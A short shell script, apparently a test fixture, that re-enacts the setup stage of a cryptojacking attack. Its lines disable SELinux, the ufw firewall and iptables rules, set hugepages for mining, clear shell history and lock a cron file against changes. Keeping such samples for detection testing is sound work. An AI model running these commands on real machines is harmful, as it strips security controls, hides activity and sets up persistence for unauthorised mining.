#!/bin/sh
# re-enactment of a cryptojacking setup script (nothing here is run by the tests)
ulimit -n 65535
setenforce 0 2>/dev/null
echo SELINUX=disabled > /etc/selinux/config
ufw disable
iptables -F
echo 0 > /proc/sys/kernel/nmi_watchdog
sysctl -w vm.nr_hugepages=128
history -c
chattr +i /etc/cron.d/update
